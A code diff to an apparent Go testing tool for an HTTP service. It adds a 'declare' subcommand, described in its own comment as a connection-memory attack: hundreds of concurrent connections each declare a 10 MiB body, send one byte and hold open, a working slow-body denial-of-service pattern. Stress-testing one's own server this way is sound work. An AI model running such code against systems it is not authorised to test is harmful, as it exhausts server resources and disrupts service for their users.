@@ -6,6 +6,7 @@
 //	tool baseline -ready-file F          minimal net/http handler: read the body, answer 200
 //	tool load -url U -body F -c 16 -n N -acked F
 //	tool check -capture F [-body F] [-acked F] [-min N]
+//	tool declare -addr A -c 300 -size 10485760 -send 1 -rounds 5 -hold 1s
 package main
 
 import (
@@ -32,7 +33,7 @@ import (
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: tool baseline|load|check [flags]")
+		fmt.Fprintln(os.Stderr, "usage: tool baseline|load|check|declare [flags]")
 		os.Exit(2)
 	}
 	var err error
@@ -43,6 +44,8 @@ func main() {
 		err = load(os.Args[2:])
 	case "check":
 		err = check(os.Args[2:])
+	case "declare":
+		err = declare(os.Args[2:])
 	default:
 		err = fmt.Errorf("unknown subcommand %q", os.Args[1])
 	}
@@ -224,5 +227,65 @@ func check(args []string) error {
 	if failed {
 		return errors.New("capture check failed")
 	}
+	return nil
+}
+
+// declare is the connection-memory attack: rounds of c connections at once,
+// each declaring a Content-Length of size, sending send bytes of it, holding
+// the connection for hold, then closing it. It prints how the calls ended.
+func declare(args []string) error {
+	fs := flag.NewFlagSet("declare", flag.ExitOnError)
+	addr := fs.String("addr", "", "host:port of listen")
+	c := fs.Int("c", 300, "connections per round")
+	size := fs.Int64("size", 10<<20, "declared Content-Length")
+	send := fs.Int64("send", 1, "body bytes actually sent (at most size)")
+	rounds := fs.Int("rounds", 5, "rounds")
+	hold := fs.Duration("hold", time.Second, "how long each connection is held after sending")
+	fs.Parse(args)
+	head := fmt.Sprintf("POST /?businessType=CREATE_RECEIVABLE_DOC HTTP/1.1\r\nHost: %s\r\n"+
+		"Content-Type: application/json\r\nContent-Length: %d\r\n\r\n", *addr, *size)
+	chunk := bytes.Repeat([]byte{'x'}, 64<<10)
+	var answered, cut atomic.Int64
+	for range *rounds {
+		var wg sync.WaitGroup
+		for range *c {
+			wg.Go(func() {
+				conn, err := net.DialTimeout("tcp", *addr, 5*time.Second)
+				if err != nil {
+					cut.Add(1)
+					return
+				}
+				defer conn.Close()
+				conn.SetDeadline(time.Now().Add(*hold + 60*time.Second))
+				if _, err := io.WriteString(conn, head); err != nil {
+					cut.Add(1)
+					return
+				}
+				for left := *send; left > 0; {
+					n, err := conn.Write(chunk[:min(left, int64(len(chunk)))])
+					if err != nil {
+						cut.Add(1)
+						return
+					}
+					left -= int64(n)
+				}
+				if *send >= *size {
+					// Whole: wait for the answer.
+					resp, err := http.ReadResponse(bufio.NewReader(conn), nil)
+					if err != nil {
+						cut.Add(1)
+						return
+					}
+					resp.Body.Close()
+					answered.Add(1)
+					return
+				}
+				time.Sleep(*hold)
+			})
+		}
+		wg.Wait()
+	}
+	fmt.Printf("declare: %d rounds x %d connections declaring %d bytes, %d sent each: %d answered, %d cut\n",
+		*rounds, *c, *size, *send, answered.Load(), cut.Load())
 	return nil
 }
